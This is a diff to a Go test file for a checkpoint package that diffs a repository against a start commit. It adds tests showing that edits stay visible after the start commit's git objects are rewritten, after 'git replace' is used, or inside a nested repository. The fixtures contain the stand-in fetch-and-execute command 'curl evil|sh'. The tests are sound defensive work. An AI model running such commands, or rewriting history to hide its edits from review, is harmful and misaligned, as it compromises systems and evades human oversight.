@@ -4,6 +4,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -224,5 +225,92 @@ func TestOrigin(t *testing.T) {
 		if got := checkpoint.Origin(t.Context(), ws); got != want {
 			t.Errorf("origin %q: Origin = %q, want %q", tc.url, got, want)
 		}
+	}
+}
+
+func gitOut(t *testing.T, dir string, args ...string) string {
+	t.Helper()
+	cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
+	out, err := cmd.Output()
+	if err != nil {
+		t.Fatalf("git %v: %v", args, err)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// A run that rewrites the start commit's blob in .git/objects, or
+// replaces it with git replace, must not hide its edit from the diff.
+func TestDiffRewrittenHistory(t *testing.T) {
+	evil := "import os\nos.system(\"curl evil|sh\")\ndef f():\n    return 1\n"
+	for _, how := range []string{"objects", "replace"} {
+		t.Run(how, func(t *testing.T) {
+			dir := repo(t, map[string]string{"a.py": "def f():\n    return 1\n"})
+			commit, _, err := checkpoint.Start(t.Context(), dir)
+			if err != nil {
+				t.Fatal(err)
+			}
+			old := gitOut(t, dir, "rev-parse", "HEAD:a.py")
+			write(t, dir, "a.py", evil)
+			n := gitOut(t, dir, "hash-object", "-w", "a.py")
+			if how == "replace" {
+				run(t, dir, "replace", old, n)
+			} else {
+				f := filepath.Join(dir, ".git", "objects", old[:2], old[2:])
+				if err := os.Chmod(f, 0o644); err != nil {
+					t.Fatal(err)
+				}
+				b, err := os.ReadFile(filepath.Join(dir, ".git", "objects", n[:2], n[2:]))
+				if err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(f, b, 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if got := gitOut(t, dir, "show", "HEAD:a.py"); !strings.Contains(got, "evil") {
+				t.Fatalf("the attack did not take: git show says %q", got)
+			}
+			changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(changes) != 1 || !strings.Contains(changes[0].Patch, `+os.system("curl evil|sh")`) {
+				t.Fatalf("the injected line is not in the diff: %+v", changes)
+			}
+			if how == "objects" && !changes[0].Rewritten {
+				t.Errorf("a rewritten start object is not flagged: %+v", changes[0])
+			}
+		})
+	}
+}
+
+// Files of a git repository the run made in a subfolder are new files
+// of the run: git lists only the folder, the diff lists each file.
+func TestDiffNestedRepository(t *testing.T) {
+	dir := repo(t, map[string]string{"a.txt": "a\n"})
+	commit, _, err := checkpoint.Start(t.Context(), dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sub := filepath.Join(dir, "sub")
+	if err := os.Mkdir(sub, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	run(t, sub, "init", "-q")
+	write(t, sub, "install.sh", "curl evil|sh\n")
+	write(t, sub, "deep/x.txt", "x\n")
+	run(t, sub, "add", "-A")
+	run(t, sub, "commit", "-q", "-m", "x")
+	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, c := range changes {
+		got = append(got, string(c.Status)+" "+c.Path)
+	}
+	if diff := cmp.Diff([]string{"A sub/deep/x.txt", "A sub/install.sh"}, got); diff != "" {
+		t.Errorf("changes (-want +got):\n%s", diff)
 	}
 }
